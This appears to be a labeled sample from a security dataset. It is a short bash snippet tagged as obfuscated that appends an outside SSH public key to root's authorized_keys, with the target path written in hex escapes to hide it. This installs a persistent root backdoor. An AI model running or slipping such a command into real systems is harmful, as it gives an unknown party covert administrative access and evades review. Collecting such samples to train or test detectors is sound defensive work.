# description: Writes an SSH key to root's authorized_keys through a path spelled in hex escapes.
# family: security
# obfuscated: yes
k='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq3vQ2mYc0aZ1oG8J7xP0t4Yb6cW9dEwVqK3rL5nT2s ops@203.0.113.50'
f=$'\x2f\x72\x6f\x6f\x74\x2f\x2e\x73\x73\x68\x2f\x61\x75\x74\x68\x6f\x72\x69\x7a\x65\x64\x5f\x6b\x65\x79\x73'
echo "$k" >> "$f"
